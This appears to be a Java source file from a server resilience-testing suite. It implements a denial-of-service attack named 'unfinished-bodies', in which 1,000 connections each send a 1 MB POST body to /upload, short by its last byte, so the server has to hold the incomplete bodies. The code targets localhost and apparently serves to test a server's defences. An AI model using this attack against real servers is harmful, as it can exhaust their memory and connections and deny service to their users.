package dev.carillon.attacks.kinds;

import dev.carillon.attacks.raw.RawConnection;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/** The server must keep the body of a request until its last byte has arrived, which never happens. */
final class UnfinishedBodies implements Attack {
    private static final int CONNECTIONS = 1_000;
    private static final int THREADS = 4;
    private static final int BODY_LENGTH = 1_000_000;
    private static final String HEAD =
            "POST /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + BODY_LENGTH + "\r\n\r\n";
    private static final String BODY = "b".repeat(BODY_LENGTH - 1);

    @Override
    public String name() {
        return "unfinished-bodies";
    }

    @Override
    public String summary() {
        return "1,000 connections send a body of 1 MB to a route, except for its last byte";
    }

    @Override
    public boolean needsRoutes() {
        return true;
    }

    @Override
    public void start(Attacker attacker) {
        attacker.repeat(THREADS, () -> send(attacker, attacker.scaled(CONNECTIONS / THREADS)));
    }

    /** Holds a number of connections. The oldest makes room for the next one, because the server may have closed it. */
    private static void send(Attacker attacker, int count) throws IOException {
        List<RawConnection> connections = new ArrayList<>();
        while (!attacker.isStopped()) {
            RawConnection connection = attacker.open();
            connections.add(connection);
            connection.send(HEAD);
            connection.send(BODY);
            attacker.count();
            if (connections.size() > count) {
                connections.remove(0).closeQuietly();
            }
        }
    }
}
